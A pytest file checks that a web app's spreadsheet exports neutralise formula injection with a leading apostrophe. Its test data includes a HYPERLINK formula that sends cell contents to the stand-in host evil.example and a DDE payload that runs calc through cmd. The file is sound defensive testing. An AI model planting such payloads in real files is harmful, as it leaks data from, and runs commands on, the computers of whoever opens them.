"""Spreadsheet outputs never carry a live formula (issue 10 §5): cells beginning with =, +, -, @, tab or CR are
neutralised with a leading apostrophe in the rejected rows of an import, the results and the teams exports.
Checked as an attacker would: hostile text goes in through the page, the files come out through the page, and
openpyxl reads them back as written (not data_only) looking for any formula."""
import io

from openpyxl import load_workbook
from sqlalchemy import select

from tests.directory.helpers import csv_file, upload
from tests.factories import record_for_review, review_plan
from webapp.core.extensions import db
from webapp.domain import cells, uscc
from webapp.stages.directory.models import ImportBatch

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def _no_formula(data: bytes) -> list:
    """Every text cell of every sheet; asserts that none is a formula or starts like one."""
    book = load_workbook(io.BytesIO(data))  # formulas stay formulas when data_only is False
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(cells.TRIGGERS), f"{sheet.title}!{c.coordinate}: {c.value!r}"
                    texts.append(c.value)
    return texts


def test_the_domain_rule():
    assert [cells.neutral(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert cells.row(["莲池区", 3, None, "a=b", " =x", "'=already"]) == ["莲池区", 3, None, "a=b", " =x", "'=already"]


def test_rejected_rows_of_an_import_come_back_as_text(app, world, client, auth):
    auth.login("office")
    header = ["统一社会信用代码", "企业名称", "法定代表人", "住所（经营场所）", "登记日期", "年报情况", "登记状态",
              "风险等级", "类别"]
    code = uscc.complete("91130606000088888")
    rows = [[code, name, "=1+1", "@地址", "2019-03-05", "2022", "合格", "特高", "-培训"] for name in HOSTILE]
    # A CSV: its cells are text as typed (an XLSX's formulas would arrive without a cached value, i.e. empty).
    upload(client, "entities", csv_file(header, rows), filename="名录.csv")
    batch = db.session.scalar(select(ImportBatch).order_by(ImportBatch.id.desc()))
    response = client.get(f"/directory/imports/{batch.id}/rejected.xlsx")
    assert response.status_code == 200
    texts = _no_formula(response.data)
    for value in HOSTILE:
        assert "'" + value in texts
    assert "'=1+1" in texts and "'@地址" in texts and "'-培训" in texts


def test_results_and_teams_exports_come_back_as_text(app, world, client, auth):
    records = [record_for_review(departments=("jiaoti",), entity_index=i) for i in range(len(HOSTILE))]
    for record, name in zip(records, HOSTILE):
        record.entity.name = name
        record.entity.legal_rep = "=cmd()"
        record.entity.address = "+86 河北"
    db.session.commit()
    auth.login("office")
    plan = review_plan()
    for path in (f"/reports/plans/{plan.id}/results.xlsx", f"/reports/plans/{plan.id}/teams.xlsx"):
        response = client.get(path)
        assert response.status_code == 200, path
        texts = _no_formula(response.data)
        for value in HOSTILE:
            assert "'" + value in texts, (path, value)
        assert "'+86 河北" in texts
